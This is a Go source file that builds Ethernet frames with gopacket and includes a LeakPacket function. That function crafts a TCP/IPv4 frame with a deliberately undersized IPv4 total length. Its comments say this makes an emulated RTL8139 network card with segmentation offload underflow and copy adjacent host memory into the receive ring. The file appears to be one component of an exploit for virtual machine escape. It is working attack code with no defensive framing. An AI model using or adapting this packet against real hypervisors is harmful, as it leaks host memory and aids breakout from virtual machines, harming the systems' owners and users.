package nic

import (
	"fmt"
	"net"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
)

// EthernetHeaderSize is the size of an Ethernet II header.
const EthernetHeaderSize = 14

// EthernetHeader returns an Ethernet II header for IPv4 frames.
func EthernetHeader(dst net.HardwareAddr, src net.HardwareAddr) ([]byte, error) {
	buf := gopacket.NewSerializeBuffer()

	err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{}, &layers.Ethernet{
		DstMAC:       dst,
		SrcMAC:       src,
		EthernetType: layers.EthernetTypeIPv4,
	})
	if err != nil {
		return nil, fmt.Errorf("failed to serialize ethernet header - %w", err)
	}

	// The serializer pads frames to the minimum Ethernet size.
	return buf.Bytes()[:EthernetHeaderSize], nil
}

// NewFrame returns a zeroed frame of size bytes that starts with an
// Ethernet II header.
func NewFrame(size int, dst net.HardwareAddr, src net.HardwareAddr) ([]byte, error) {
	if size < EthernetHeaderSize {
		return nil, fmt.Errorf("frame size %d is smaller than an ethernet header", size)
	}

	header, err := EthernetHeader(dst, src)
	if err != nil {
		return nil, err
	}

	frame := make([]byte, size)
	copy(frame, header)

	return frame, nil
}

// LeakIPLength is the IPv4 total length of the leak packet. It is
// smaller than the IPv4 header alone, so a device that computes the
// payload length as total length minus header length underflows.
const LeakIPLength = 0x13

// LeakPacketSize is the size of the leak packet: Ethernet, IPv4 and
// TCP headers with no payload.
const LeakPacketSize = EthernetHeaderSize + 20 + 20

// LeakPacket returns a TCP/IPv4 frame addressed from and to mac whose
// IPv4 total length is LeakIPLength. An RTL8139 in C+ mode with TCP
// segmentation offload enabled treats the underflowed payload length
// as huge and copies adjacent host memory into the receive ring.
func LeakPacket(mac net.HardwareAddr) ([]byte, error) {
	buf := gopacket.NewSerializeBuffer()

	err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{},
		&layers.Ethernet{
			DstMAC:       mac,
			SrcMAC:       mac,
			EthernetType: layers.EthernetTypeIPv4,
		},
		&layers.IPv4{
			Version:  4,
			IHL:      5,
			Length:   LeakIPLength,
			Id:       0xdead,
			Flags:    layers.IPv4DontFragment,
			TTL:      64,
			Protocol: layers.IPProtocolTCP,
			Checksum: 0xdead,
			SrcIP:    net.IPv4(192, 8, 1, 1),
			DstIP:    net.IPv4(192, 168, 1, 2),
		},
		&layers.TCP{
			SrcPort:    0xdead,
			DstPort:    0xbeef,
			Seq:        0xcafebabe,
			Ack:        0xcafebabe,
			DataOffset: 5,
			ACK:        true,
			Window:     0xdead,
			Checksum:   0xdead,
		})
	if err != nil {
		return nil, fmt.Errorf("failed to serialize leak packet - %w", err)
	}

	// The serializer pads frames to the minimum Ethernet size.
	return buf.Bytes()[:LeakPacketSize], nil
}
